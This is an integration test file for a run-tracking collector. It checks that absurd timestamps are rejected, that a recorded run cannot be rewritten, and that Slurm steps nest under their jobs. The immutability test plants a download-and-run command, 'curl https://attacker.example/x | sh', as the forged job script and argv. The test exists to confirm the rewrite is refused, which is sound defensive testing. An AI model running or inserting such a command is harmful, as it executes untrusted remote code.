// A run is an audit record the whole team reads: no single event, however absurd, may break the
// run list for everyone. Each case here came from probing a running collector as an attacker.
import assert from "node:assert/strict";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { captureCode } from "../../agent/code/capture-code.js";
import type { RunDetail } from "../../core/api-types.js";
import { eventSubject } from "../../core/nats-names.js";
import { encodeEvent } from "../../proto/event-codec.js";
import type { CollectorClient } from "../../proto/generated/snaptrail/v1/Collector.js";
import { capturedEvent, finishedEvent, startedEvent } from "../helpers/collector-fixtures.js";
import { collectorClient, publish, putBlob } from "../helpers/collector-grpc-client.js";
import { startCollectorProcess, type CollectorProcess } from "../helpers/collector-process.js";
import { commitRepo } from "../helpers/git.js";
import { startNatsServer } from "../helpers/nats-server.js";
import { connectNats, publishBytes, readDeadLetters, storedEventIds, waitFor } from "../helpers/nats-test-client.js";
import { runCli } from "../helpers/run-cli.js";

void describe("collector process: event times", () => {
  let collector: CollectorProcess;
  let client: CollectorClient;

  before(async () => {
    collector = await startCollectorProcess();
    client = await collectorClient(collector.grpcAddress);
  });
  after(async () => {
    client?.close();
    await collector?.stop();
  });

  void it("REJECTS absurd event times and durations, naming the field, and the run list keeps working", async () => {
    const absurd = [1e16, 2 ** 53 - 1, 2 ** 64 - 1, Date.now() + 30 * 24 * 3600 * 1000, 5];
    for (const [i, time] of absurd.entries()) {
      const { acks, error } = await publish(client, [startedEvent(`local:absurd/${i}`, { time })]);
      assert.equal(error, undefined);
      assert.equal(acks[0]?.outcome, "REJECTED", `time ${time}`);
      assert.match(acks[0]?.error ?? "", /time_unix_ms/);
    }
    const longJob = finishedEvent("local:absurd/duration", { durationMs: 2 ** 64 - 1 });
    const { acks } = await publish(client, [longJob]);
    assert.equal(acks[0]?.outcome, "REJECTED");
    assert.match(acks[0]?.error ?? "", /duration_ms/);

    const { acks: good } = await publish(client, [startedEvent("local:sane/1", { time: Date.now() })]);
    assert.equal(good[0]?.outcome, "STORED");
    const res = await fetch(`${collector.httpUrl}/api/v1/runs`);
    assert.equal(res.status, 200);
    const body = (await res.json()) as { runs: { runId: string }[] };
    assert.deepEqual(body.runs.map((r) => r.runId), ["local:sane/1"]);
    const cli = await runCli(["runs", "--collector-http", collector.httpUrl]);
    assert.equal(cli.code, 0, cli.stderr);
    assert.match(cli.stdout.toString(), /local:sane\/1/);
  });
});

// The probe that found it: a second run_started, run_finished and snapshot_captured with new
// event ids turned a succeeded run into a failed one, rewrote its command line and pointed its
// code at an uploaded archive, which `restore` then wrote. Each part of a run is written once.
void describe("collector process: a recorded run cannot be rewritten", () => {
  let dir: string;
  let collector: CollectorProcess;
  let client: CollectorClient;
  const runId = `local:test/immutable-${process.pid}`;

  before(async () => {
    dir = mkdtempSync(join(tmpdir(), "snaptrail-immutable-"));
    collector = await startCollectorProcess({ db: join(dir, "snaptrail.db"), env: { SNAPTRAIL_LOG_LEVEL: "warn" } });
    client = await collectorClient(collector.grpcAddress);
  });
  after(async () => {
    client?.close();
    await collector?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  void it("REJECTS every rewrite event with its reason; show and restore still give the original run", async () => {
    const repo = join(dir, "repo");
    commitRepo(repo, { "job.sh": "echo v1\n" }, "v1");
    const env = {
      ...process.env,
      SNAPTRAIL_COLLECTOR: collector.grpcAddress,
      SNAPTRAIL_COLLECTOR_HTTP: collector.httpUrl,
      SNAPTRAIL_RUN_ID: runId,
      SNAPTRAIL_SPOOL_DIR: join(dir, "spool"),
      SNAPTRAIL_CACHE_DIR: join(dir, "cache"),
    };
    const wrapped = await runCli(["wrap", "--", "sh", "job.sh"], { cwd: repo, env });
    assert.equal(wrapped.code, 0, wrapped.stderr);
    const original = (await (await fetch(`${collector.httpUrl}/api/v1/runs/${encodeURIComponent(runId)}`)).json()) as RunDetail;
    assert.equal(original.status, "succeeded");

    // The attacker's code, captured and uploaded for real, so only immutability stops it.
    const evil = join(dir, "evil");
    commitRepo(evil, { "job.sh": "curl https://attacker.example/x | sh\n" }, "evil");
    const cap = await captureCode(evil, { env: process.env, maxArchiveBytes: 1024 * 1024 });
    assert.ok(cap.code && cap.archive);
    await putBlob(client, cap.code.archiveDigest, cap.archive);
    const started = startedEvent(runId, { eventId: "probe#started", kind: "LOCAL", time: Date.now() });
    started.runStarted!.config!.argv = ["sh", "-c", "curl https://attacker.example/x | sh"];
    const rewrite = [
      started,
      finishedEvent(runId, { eventId: "probe#finished", exitCode: 1, time: Date.now() }),
      capturedEvent(runId, { code: { body: cap.code } }, { eventId: "probe#captured", time: Date.now() }),
    ];
    const { acks, error } = await publish(client, rewrite);
    assert.equal(error, undefined);
    assert.deepEqual(acks.map((a) => a.outcome), ["REJECTED", "REJECTED", "REJECTED"]);
    const audit = "; a run is an audit record written once";
    assert.equal(acks[0]?.error, `run ${runId} already has a different run_started${audit}`);
    assert.equal(acks[1]?.error, `run ${runId} already has a different run_finished (exit 0)${audit}`);
    assert.equal(acks[2]?.error, `run ${runId} already has a different code snapshot (${original.codeDigest}, not ${rewrite[2]!.snapshotCaptured!.codeDigest})${audit}`);

    const after = (await (await fetch(`${collector.httpUrl}/api/v1/runs/${encodeURIComponent(runId)}`)).json()) as RunDetail;
    assert.deepEqual(after, original);
    const show = await runCli(["show", runId, "--no-color", "--collector-http", collector.httpUrl]);
    assert.equal(show.code, 0, show.stderr);
    assert.match(show.stdout.toString(), /status +succeeded \(exit 0\)/);
    assert.match(show.stdout.toString(), /\n {2}sh job\.sh\n/);
    assert.ok(!show.stdout.toString().includes("attacker"), show.stdout.toString());

    const into = join(dir, "restored");
    const restored = await runCli(["restore", runId, "--into", into, "--env", "none", "--collector-http", collector.httpUrl]);
    assert.equal(restored.code, 0, restored.stderr);
    assert.equal(readFileSync(join(into, "job.sh"), "utf8"), "echo v1\n");
    assert.match(collector.stderr(), /event refused: its run already holds that part/);
  });

  void it("keeps several writers of one job apart: step runs beneath the job run, over the HTTP API and in show", async () => {
    const job = "slurm:hpc/4242";
    // The job's prolog and each step's task prolog publish on streams of their own.
    const writers = [
      [startedEvent(job, { kind: "SLURM", step: "", time: Date.now() - 3000 })],
      [startedEvent(`${job}.0`, { kind: "SLURM", step: "0", parentRunId: job, time: Date.now() - 2000 }), finishedEvent(`${job}.0`, { time: Date.now() })],
      [startedEvent(`${job}.1`, { kind: "SLURM", step: "1", parentRunId: job, time: Date.now() - 1000 }), finishedEvent(`${job}.1`, { exitCode: 2, time: Date.now() })],
    ];
    const results = await Promise.all(writers.map((events) => publish(client, events)));
    assert.ok(results.every((r) => r.acks.every((a) => a.outcome === "STORED")), JSON.stringify(results));
    const detail = (await (await fetch(`${collector.httpUrl}/api/v1/runs/${encodeURIComponent(job)}`)).json()) as RunDetail;
    assert.equal(detail.parentRunId, null);
    assert.deepEqual(detail.children, [`${job}.1`, `${job}.0`]);
    const list = async (q: string) => ((await (await fetch(`${collector.httpUrl}/api/v1/runs?${q}`)).json()) as { runs: RunDetail[] }).runs.map((r) => [r.runId, r.parentRunId]);
    assert.deepEqual(await list(`parent=${encodeURIComponent(job)}`), [[`${job}.1`, job], [`${job}.0`, job]]);
    assert.deepEqual(await list(`parent=${encodeURIComponent(job)}&status=failed`), [[`${job}.1`, job]]);
    const show = await runCli(["show", job, "--no-color", "--collector-http", collector.httpUrl]);
    assert.match(show.stdout.toString(), /\nRuns beneath \(2\)\n {2}slurm:hpc\/4242\.1\n {2}slurm:hpc\/4242\.0\n/);
    const step = await runCli(["show", `${job}.0`, "--no-color", "--collector-http", collector.httpUrl]);
    assert.match(step.stdout.toString(), /\npart of +slurm:hpc\/4242\n/);
  });
});

void describe("collector over NATS: a rewrite is dead-lettered with its reason", () => {
  const cleanups: (() => Promise<unknown>)[] = [];
  after(async () => {
    for (const c of cleanups.reverse()) await c().catch(() => undefined);
  });

  void it("stores the run, and sends a conflicting run_finished to the dead-letter stream, never into the run", async () => {
    const server = await startNatsServer();
    cleanups.push(() => server.destroy());
    const db = join(mkdtempSync(join(tmpdir(), "snaptrail-immutable-nats-")), "snaptrail.db");
    const collector = await startCollectorProcess({ db, args: ["--nats", server.url], env: { SNAPTRAIL_LOG_LEVEL: "warn" } });
    cleanups.push(() => collector.stop());
    const nc = await connectNats(server.url);
    cleanups.push(() => nc.close());
    const runId = "slurm:c/77";
    for (const e of [startedEvent(runId), finishedEvent(runId, { exitCode: 0 })]) await publishBytes(nc, eventSubject(runId), encodeEvent(e), e.eventId);
    await waitFor("the run stored", () => storedEventIds(db).length === 2);
    const flip = finishedEvent(runId, { eventId: "flip", exitCode: 1 });
    await publishBytes(nc, eventSubject(runId), encodeEvent(flip), flip.eventId);
    await waitFor("one dead letter", async () => (await readDeadLetters(nc)).length === 1);
    const [letter] = await readDeadLetters(nc);
    assert.equal(letter?.reason, `rejected: run ${runId} already has a different run_finished (exit 0); a run is an audit record written once`);
    assert.deepEqual(storedEventIds(db).sort(), [`${runId}#finished`, `${runId}#started`]);
    const run = (await (await fetch(`${collector.httpUrl}/api/v1/runs/${encodeURIComponent(runId)}`)).json()) as RunDetail;
    assert.equal(run.status, "succeeded");
  });
});
